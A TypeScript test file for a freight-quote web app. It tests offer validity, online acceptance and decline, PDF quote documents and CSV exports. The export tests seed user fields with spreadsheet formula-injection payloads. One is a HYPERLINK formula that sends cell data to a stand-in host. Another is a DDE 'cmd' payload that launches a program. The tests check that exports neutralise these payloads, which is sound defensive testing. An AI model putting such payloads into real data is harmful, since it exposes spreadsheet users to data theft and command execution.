import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { addDays, easternDate, formatCalendarDate, OFFER_MESSAGES, QUOTE_TERMS } from '@freight/domain';
import type { Response } from 'supertest';
import { type Agent, useTestApp } from '../../test/harness';
import { MailMessage, Quote, quoteListFields, shownMoney } from '../../store/testing';

const t = useTestApp();
const run = promisify(execFile);

async function customer(fields: Record<string, unknown> = {}) {
  const { user, password } = await t.createUser(fields);
  const agent = t.agent();
  await t.signIn(agent, user.username, password);
  return { agent, user };
}

let admin: Agent;
beforeAll(async () => {
  admin = (await t.createAdmin()).agent;
});

/** A customer's request, priced and approved by staff: an open offer. */
async function pricedQuote(agent: Agent, price = '1250', extra: Record<string, unknown> = {}) {
  const { id } = (await agent.post('/api/customer-quotes').send({ serviceNeeded: 'Cross-Docking', projectDetails: 'Two pallets' }).expect(201)).body;
  const res = await admin.patch(`/api/admin/quotes/${id}`).send({ status: 'approved', estimatedPrice: price, ...extra }).expect(200);
  return { id: id as number, quote: res.body };
}

const stored = async (id: number) => (await Quote.findOne({ id: id }).lean())!;
/** Changes a stored quote as a person with a database shell would, keeping its list fields with it. */
async function changeStored(id: number, fields: Record<string, unknown>): Promise<void> {
  const quote = { ...shownMoney(Quote, await stored(id)), ...fields };
  await Quote.updateOne({ id }, { $set: { ...fields, ...quoteListFields(quote) } });
}
const kindsFor = async (id: number) => (await MailMessage.find({ 'source.id': id }).lean()).map((m) => m.kind).sort();

/** The response body as bytes, for downloads. */
const binary = (res: Response, callback: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => callback(null, Buffer.concat(chunks)));
};

async function pdfText(pdf: Buffer): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'quote-pdf-'));
  try {
    await writeFile(path.join(dir, 'quote.pdf'), pdf);
    const { stdout } = await run('pdftotext', ['-layout', path.join(dir, 'quote.pdf'), '-']);
    return stdout;
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

describe('a priced quote is an offer with a validity', () => {
  it('gets valid-until 7 days from the Eastern today when staff price it, or the date staff choose', async () => {
    const { agent } = await customer();
    const { quote } = await pricedQuote(agent);
    expect(quote.validUntil).toBe(addDays(easternDate(), 7));

    const chosen = addDays(easternDate(), 3);
    const { quote: other } = await pricedQuote(agent, '900', { validUntil: chosen });
    expect(other.validUntil).toBe(chosen);
  });

  it('refuses a valid-until that is not a date or is in the past, and changes nothing', async () => {
    const { agent } = await customer();
    const { id } = await pricedQuote(agent);
    const before = await stored(id);
    for (const [validUntil, message] of [
      ['2026-02-30', OFFER_MESSAGES.validUntilInvalid],
      ['next week', OFFER_MESSAGES.validUntilInvalid],
      [addDays(easternDate(), -1), OFFER_MESSAGES.validUntilPast],
    ]) {
      const res = await admin.patch(`/api/admin/quotes/${id}`).send({ estimatedPrice: '1', validUntil }).expect(400);
      expect(res.body.errors).toEqual({ validUntil: message });
    }
    expect(await stored(id)).toMatchObject({ estimatedPriceCents: before.estimatedPriceCents, validUntil: before.validUntil });
  });

  it('a new price restarts the validity; other edits keep it', async () => {
    const { agent } = await customer();
    const { id } = await pricedQuote(agent, '1000', { validUntil: addDays(easternDate(), 2) });
    await admin.patch(`/api/admin/quotes/${id}`).send({ adminNotes: 'Liftgate needed' }).expect(200);
    expect((await stored(id)).validUntil).toBe(addDays(easternDate(), 2));
    await admin.patch(`/api/admin/quotes/${id}`).send({ estimatedPrice: '1100' }).expect(200);
    expect((await stored(id)).validUntil).toBe(addDays(easternDate(), 7));
  });
});

describe('the customer accepts or declines online', () => {
  it('accepting records who, when, from where and what, books the quote, and emails staff and the customer', async () => {
    const { agent, user } = await customer({ firstName: 'Grace', lastName: 'Hopper' });
    const { id } = await pricedQuote(agent, '1250');
    const res = await agent.post(`/api/customer-quotes/${id}/accept`).send({ signature: 'Grace M. Hopper', accept: true }).expect(200);
    expect(res.body.message).toBe(OFFER_MESSAGES.accepted(`#${id}`));
    expect(res.body.quote).toMatchObject({
      status: 'in-progress',
      decision: {
        outcome: 'accepted',
        userId: user.id,
        accountName: 'Grace Hopper',
        signature: 'Grace M. Hopper',
        ip: expect.stringMatching(/127\.0\.0\.1|::1/),
        snapshot: { estimatedPrice: '$1,250.00', validUntil: addDays(easternDate(), 7), serviceNeeded: 'Cross-Docking', terms: QUOTE_TERMS.reference },
      },
    });
    expect(Date.now() - new Date(res.body.quote.decision.at).getTime()).toBeLessThan(10_000);
    expect(await kindsFor(id)).toEqual(['customer.quote-accepted', 'customer.quote-received', 'customer.quote-updated', 'staff.quote-accepted', 'staff.quote-received']);
    const offered = await MailMessage.findOne({ 'source.id': id, kind: 'customer.quote-updated' }).lean();
    expect(offered?.text).toContain(`Valid through ${formatCalendarDate(addDays(easternDate(), 7))}, 11:59 PM Eastern. You can accept or decline it online in My Quotes.`);
    const staffMail = await MailMessage.findOne({ 'source.id': id, kind: 'staff.quote-accepted' }).lean();
    expect(staffMail).toMatchObject({ subject: `Quote #${id} accepted: Test Freight Co`, replyTo: user.email });
    expect(staffMail?.text).toMatch(/Accepted price: \$1,250\.00[\s\S]*Signed by: Grace M\. Hopper/);
    const confirmation = await MailMessage.findOne({ 'source.id': id, kind: 'customer.quote-accepted' }).lean();
    expect(confirmation).toMatchObject({ to: user.email, subject: `Confirmation: you accepted quote #${id}` });
    expect(confirmation?.html).toContain('$1,250.00');
  });

  it('keeps the accepted price and terms fixed when staff edit the quote afterwards', async () => {
    const { agent } = await customer();
    const { id } = await pricedQuote(agent, '1250');
    await agent.post(`/api/customer-quotes/${id}/accept`).send({ signature: 'Pat Doe', accept: true }).expect(200);
    await admin.patch(`/api/admin/quotes/${id}`).send({ estimatedPrice: '9999', status: 'completed', validUntil: addDays(easternDate(), 30) }).expect(200);
    const quote = await stored(id);
    expect(quote.estimatedPriceCents).toBe(999900);
    // Stored in cents, as every amount is (money-fields).
    expect(quote.decision?.snapshot).toMatchObject({ estimatedPriceCents: 125000, validUntil: addDays(easternDate(), 7) });
    expect(quote.decision?.signature).toBe('Pat Doe');
  });

  it('declining, with or without a reason, rejects the quote and tells staff', async () => {
    const { agent } = await customer();
    const { id } = await pricedQuote(agent);
    const res = await agent.post(`/api/customer-quotes/${id}/decline`).send({ reason: 'Found a closer carrier' }).expect(200);
    expect(res.body.quote).toMatchObject({ status: 'rejected', decision: { outcome: 'declined', reason: 'Found a closer carrier' } });
    expect(res.body.quote.decision).not.toHaveProperty('snapshot');
    expect(await kindsFor(id)).toContain('staff.quote-declined');

    const { id: second } = await pricedQuote(agent);
    await agent.post(`/api/customer-quotes/${second}/decline`).send({}).expect(200);
    expect((await stored(second)).decision).toMatchObject({ outcome: 'declined' });
  });

  it('the offer is open through the end of its last day (today, Eastern), and refused the day after', async () => {
    const { agent } = await customer();
    const { id } = await pricedQuote(agent, '700', { validUntil: easternDate() });
    await agent.post(`/api/customer-quotes/${id}/accept`).send({ signature: 'Pat Doe', accept: true }).expect(200);

    const { id: late } = await pricedQuote(agent, '700');
    const yesterday = addDays(easternDate(), -1);
    await changeStored(late, { validUntil: yesterday });
    for (const [action, body] of [['accept', { signature: 'Pat Doe', accept: true }], ['decline', {}]] as const) {
      const res = await agent.post(`/api/customer-quotes/${late}/${action}`).send(body).expect(409);
      expect(res.body.message).toBe(OFFER_MESSAGES.expired(yesterday));
      expect(res.body.message).toContain(formatCalendarDate(yesterday));
    }
    expect(await stored(late)).toMatchObject({ status: 'approved', decision: null });
  });

  it('refuses someone else\'s quote (403), an unknown one (404), an unpriced or unapproved one (409) and a second decision (409)', async () => {
    const owner = await customer();
    const stranger = await customer();
    const { id } = await pricedQuote(owner.agent);
    const sign = { signature: 'Someone Else', accept: true };

    await stranger.agent.post(`/api/customer-quotes/${id}/accept`).send(sign).expect(403, { message: OFFER_MESSAGES.notYours });
    await stranger.agent.post(`/api/customer-quotes/${id}/decline`).send({}).expect(403, { message: OFFER_MESSAGES.notYours });
    await owner.agent.post('/api/customer-quotes/999999/accept').send(sign).expect(404);
    await t.agent().post(`/api/customer-quotes/${id}/accept`).send(sign).expect(401);

    const { id: unpriced } = (await owner.agent.post('/api/customer-quotes').send({ serviceNeeded: 'Other' }).expect(201)).body;
    await owner.agent.post(`/api/customer-quotes/${unpriced}/accept`).send(sign).expect(409, { message: OFFER_MESSAGES.notOffered });
    const { id: pending } = await pricedQuote(owner.agent, '500', { status: 'pending' });
    await owner.agent.post(`/api/customer-quotes/${pending}/accept`).send(sign).expect(409, { message: OFFER_MESSAGES.notOffered });

    await owner.agent.post(`/api/customer-quotes/${id}/decline`).send({}).expect(200);
    const after = await stored(id);
    await owner.agent.post(`/api/customer-quotes/${id}/accept`).send(sign).expect(409, { message: OFFER_MESSAGES.alreadyDecided('declined') });
    await owner.agent.post(`/api/customer-quotes/${id}/decline`).send({}).expect(409, { message: OFFER_MESSAGES.alreadyDecided('declined') });
    expect(await stored(id)).toMatchObject({ status: after.status, decision: after.decision, updatedAt: after.updatedAt });
  });

  it('refuses a missing signature or confirmation (400) and changes nothing', async () => {
    const { agent } = await customer();
    const { id } = await pricedQuote(agent);
    const url = `/api/customer-quotes/${id}/accept`;
    expect((await agent.post(url).send({ accept: true }).expect(400)).body.errors).toEqual({ signature: OFFER_MESSAGES.signatureRequired });
    expect((await agent.post(url).send({ signature: ' ', accept: true }).expect(400)).body.errors).toEqual({ signature: OFFER_MESSAGES.signatureRequired });
    expect((await agent.post(url).send({ signature: 'Pat Doe', accept: false }).expect(400)).body.errors).toEqual({ accept: OFFER_MESSAGES.confirmRequired });
    expect((await agent.post(url).send({ signature: 'Pat Doe' }).expect(400)).body.errors).toEqual({ accept: OFFER_MESSAGES.confirmRequired });
    await agent.post(url).send({ signature: 'Pat Doe', accept: true, status: 'completed' }).expect(400);
    await agent.post(`/api/customer-quotes/${id}/decline`).send({ reason: 'x'.repeat(1001) }).expect(400);
    expect(await stored(id)).toMatchObject({ status: 'approved', decision: null });
  });

  it('an accept and a decline sent at once: exactly one wins, the other gets 409', async () => {
    const { user, password } = await t.createUser();
    const agent = t.agent();
    await t.signIn(agent, user.username, password);
    const { id } = await pricedQuote(agent);
    // Two tabs: the same customer, two sessions.
    const other = t.agent();
    await t.signIn(other, user.username, password);
    const [accepted, declined] = await Promise.all([
      agent.post(`/api/customer-quotes/${id}/accept`).send({ signature: 'Pat Doe', accept: true }),
      other.post(`/api/customer-quotes/${id}/decline`).send({}),
    ]);
    expect([accepted.status, declined.status].sort()).toEqual([200, 409]);
    const winner = accepted.status === 200 ? 'accepted' : 'declined';
    expect((await stored(id)).decision?.outcome).toBe(winner);
    expect((await kindsFor(id)).filter((kind) => kind.startsWith('staff.quote-') && kind !== 'staff.quote-received')).toHaveLength(1);
  });
});

describe('staff see the decisions', () => {
  it('filters the admin list by awaiting customer, accepted, declined and expired', async () => {
    const { agent, user } = await customer({ companyName: 'Filter Test Freight' });
    const awaiting = await pricedQuote(agent);
    const accepted = await pricedQuote(agent);
    const declined = await pricedQuote(agent);
    const expired = await pricedQuote(agent);
    await agent.post(`/api/customer-quotes/${accepted.id}/accept`).send({ signature: 'Pat Doe', accept: true }).expect(200);
    await agent.post(`/api/customer-quotes/${declined.id}/decline`).send({}).expect(200);
    await changeStored(expired.id, { validUntil: addDays(easternDate(), -2) });

    const ids = async (offer: string) =>
      (await admin.get('/api/quotes').query({ offer, search: user.email, limit: 50 }).expect(200)).body.map((q: { id: number }) => q.id);
    expect(await ids('awaiting')).toEqual([awaiting.id]);
    expect(await ids('accepted')).toEqual([accepted.id]);
    expect(await ids('declined')).toEqual([declined.id]);
    expect(await ids('expired')).toEqual([expired.id]);
    await admin.get('/api/quotes').query({ offer: 'maybe' }).expect(400);
  });
});

describe('the quote document (PDF)', () => {
  it('the customer and staff download the same document, with number, price, dates, acceptance and the terms accepted', async () => {
    const { agent } = await customer({ firstName: 'Grace', lastName: 'Hopper', companyName: 'Cobol Cargo LLC' });
    const { id } = await pricedQuote(agent, '2,480.50');
    await agent.post(`/api/customer-quotes/${id}/accept`).send({ signature: 'Grace Hopper', accept: true }).expect(200);

    const mine = await agent.get(`/api/customer-quotes/${id}/document`).buffer(true).parse(binary).expect(200);
    expect(mine.headers['content-type']).toBe('application/pdf');
    expect(mine.headers['content-disposition']).toBe(`attachment; filename="harborline-quote-${id}.pdf"`);
    const staff = await admin.get(`/api/admin/quotes/${id}/document`).buffer(true).parse(binary).expect(200);
    for (const pdf of [mine.body as Buffer, staff.body as Buffer]) {
      expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
      const text = await pdfText(pdf);
      expect(text).toContain(`Freight Quote #${id}`);
      expect(text).toContain('$2,480.50');
      expect(text).toContain(formatCalendarDate(addDays(easternDate(), 7)));
      expect(text).toContain('Cobol Cargo LLC');
      expect(text).toContain('Grace Hopper (signed electronically)');
      expect(text.replace(/\s+/g, ' ')).toContain(`Accepted on the ${QUOTE_TERMS.reference}`);
      // The offer on page 1, the terms in full on page 2.
      const pages = text.split('\f').filter((page) => page.trim());
      expect(pages.length).toBe(2);
      expect(pages[1]).toContain(QUOTE_TERMS.sections[0].heading);
    }
  });

  it('is refused for someone else\'s quote (403) and before a quote has a price (409)', async () => {
    const owner = await customer();
    const stranger = await customer();
    const { id } = await pricedQuote(owner.agent);
    await stranger.agent.get(`/api/customer-quotes/${id}/document`).expect(403);
    const { id: unpriced } = (await owner.agent.post('/api/customer-quotes').send({ serviceNeeded: 'Other' }).expect(201)).body;
    await owner.agent.get(`/api/customer-quotes/${unpriced}/document`).expect(409, { message: OFFER_MESSAGES.noDocument });
    await admin.get(`/api/admin/quotes/${unpriced}/document`).expect(409, { message: OFFER_MESSAGES.noDocument });
  });
});

describe('CSV exports', () => {
  /** A minimal RFC 4180 reader, to check what a spreadsheet would read back. */
  function parseCsv(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let field = '';
    let quoted = false;
    const endField = () => {
      row.push(field);
      field = '';
    };
    for (let i = 0; i < text.length; i++) {
      const c = text[i];
      if (quoted && c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = !quoted;
      } else if (!quoted && c === ',') {
        endField();
      } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
        endField();
        rows.push(row);
        row = [];
        i++;
      } else {
        field += c;
      }
    }
    if (field || row.length) {
      endField();
      rows.push(row);
    }
    return rows;
  }

  it('exports the quote list with its filter and search, escaping quotes, commas and line breaks', async () => {
    const { agent } = await customer({ firstName: 'Anna "AJ"', lastName: 'Jones, Jr.', companyName: 'Quote & Comma, Inc.' });
    const { id } = await pricedQuote(agent);
    await agent.post('/api/customer-quotes').send({ serviceNeeded: 'Other', projectDetails: 'line one\nline two' }).expect(201);
    const res = await admin.get('/api/admin/quotes/export').query({ search: 'Quote & Comma', offer: 'awaiting' }).buffer(true).parse(binary).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="quotes-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = (res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '');
    expect(text).toContain('"Anna ""AJ""","Jones, Jr.","Quote & Comma, Inc."');
    const [header, ...rows] = parseCsv(text);
    expect(header.slice(0, 4)).toEqual(['Quote #', 'Received', 'Status', 'Customer decision']);
    expect(rows).toHaveLength(1);
    // How many rows follow, said before the first one (the page shows the export's progress).
    expect(res.headers['x-total-count']).toBe('1');
    expect(rows[0].slice(0, 7)).toEqual([String(id), expect.any(String), 'Approved', 'Awaiting customer', 'Anna "AJ"', 'Jones, Jr.', 'Quote & Comma, Inc.']);

    const all = parseCsv((await admin.get('/api/admin/quotes/export').query({ search: 'Quote & Comma' }).buffer(true).parse(binary).expect(200)).body.toString('utf8'));
    expect(all).toHaveLength(3);
    expect(all.some((row) => row.includes('line one\nline two'))).toBe(true);
  });

  it('exports the users list with its search, never a password, and keeps formulas as text', async () => {
    await t.createUser({ firstName: '=HYPERLINK("http://evil")', lastName: 'Export', companyName: 'Export Check Co' });
    const res = await admin.get('/api/admin/users/export').query({ search: 'Export Check' }).buffer(true).parse(binary).expect(200);
    const rows = parseCsv((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''));
    expect(res.headers['x-total-count']).toBe('1');
    expect(rows[0]).toEqual(['User #', 'Username', 'First name', 'Last name', 'Email', 'Phone', 'Company', 'Account type', 'Active', 'Admin', 'Created']);
    expect(rows).toHaveLength(2);
    expect(rows[1][2]).toBe(`'=HYPERLINK("http://evil")`);
    expect(rows[1][7]).toBe('Customer');
    expect((res.body as Buffer).toString()).not.toMatch(/\$argon2|\$2[aby]\$|scrypt/);
  });

  const FORMULAS = {
    plusDigit: '+1+HYPERLINK("http://evil.test?"&A1,"x")',
    minusDigit: "-1+1+cmd|' /C calc'!A0",
    equals: '=1+1',
    at: '@SUM(A1:A2)',
    minus: '-cmd',
  };

  it('keeps every user cell a spreadsheet would run as a formula as text, + or - before a digit included', async () => {
    for (const [key, formula] of Object.entries(FORMULAS)) {
      await t.createUser({ firstName: formula, lastName: `Formula ${key}`, companyName: formula, phone: formula });
    }
    const res = await admin.get('/api/admin/users/export').query({ search: 'Formula' }).buffer(true).parse(binary).expect(200);
    const [header, ...rows] = parseCsv((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(Object.keys(FORMULAS).length);
    const cell = (row: string[], name: string) => row[header.indexOf(name)];
    for (const row of rows) {
      const formula = FORMULAS[cell(row, 'Last name').replace('Formula ', '') as keyof typeof FORMULAS];
      expect([cell(row, 'First name'), cell(row, 'Company'), cell(row, 'Phone')]).toEqual([`'${formula}`, `'${formula}`, `'${formula}`]);
      expect(cell(row, 'User #')).toMatch(/^[1-9][0-9]*$/);
    }
  });

  it('keeps formulas in quote cells as text, whoever typed them', async () => {
    const { agent } = await customer({ firstName: FORMULAS.plusDigit, lastName: 'Formula quote', companyName: FORMULAS.minusDigit });
    await agent.post('/api/customer-quotes').send({ serviceNeeded: 'Other', projectDetails: FORMULAS.at, phone: '+1 555 0100' }).expect(201);
    const res = await admin.get('/api/admin/quotes/export').query({ search: 'Formula quote' }).buffer(true).parse(binary).expect(200);
    const [header, row] = parseCsv((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''));
    const cell = (name: string) => row[header.indexOf(name)];
    expect([cell('First name'), cell('Company'), cell('Project details'), cell('Phone')]).toEqual([`'${FORMULAS.plusDigit}`, `'${FORMULAS.minusDigit}`, `'${FORMULAS.at}`, "'+1 555 0100"]);
  });

  it('is for admins only', async () => {
    const { agent } = await customer();
    await agent.get('/api/admin/quotes/export').expect(403);
    await t.agent().get('/api/admin/users/export').expect(401);
  });
});
